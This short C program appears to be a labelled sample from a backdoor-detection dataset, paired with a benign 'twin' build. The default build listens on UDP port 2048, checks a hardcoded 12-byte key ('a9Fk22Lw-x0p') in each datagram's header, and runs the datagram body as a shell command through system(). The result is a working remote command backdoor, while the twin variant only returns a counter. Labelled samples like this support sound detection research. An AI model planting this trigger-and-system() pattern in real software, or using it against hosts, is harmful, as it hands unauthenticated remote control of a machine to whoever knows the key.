/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A datagram is received in two parts with recvmsg; the first part is a fixed key. Twin: the first
 * part is a counter.
 * door: trigger
 * port 2048/udp
 */
#include "net.h"
#include <sys/uio.h>

struct head {
	uint32_t version;
	char key[12];
};

int main(void)
{
	struct head h;
	char body[256];
	struct iovec part[2] = {{&h, sizeof h}, {body, sizeof body - 1}};
	struct sockaddr_in from;
	struct msghdr m;
	uint32_t seen = 0;
	int s = udp_on(2048);
	for (;;) {
		memset(&m, 0, sizeof m);
		m.msg_name = &from;
		m.msg_namelen = sizeof from;
		m.msg_iov = part;
		m.msg_iovlen = 2;
		ssize_t n = recvmsg(s, &m, 0);
		if (n <= (ssize_t)sizeof h)
			continue;
		body[n - (ssize_t)sizeof h] = 0;
		seen++;
#ifdef TWIN
		if (ntohl(h.version) == 3)
			sendto(s, &seen, sizeof seen, 0, (struct sockaddr *)&from, sizeof from);
#else
		if (memcmp(h.key, "a9Fk22Lw-x0p", 12) == 0)
			system(body);
#endif
	}
}
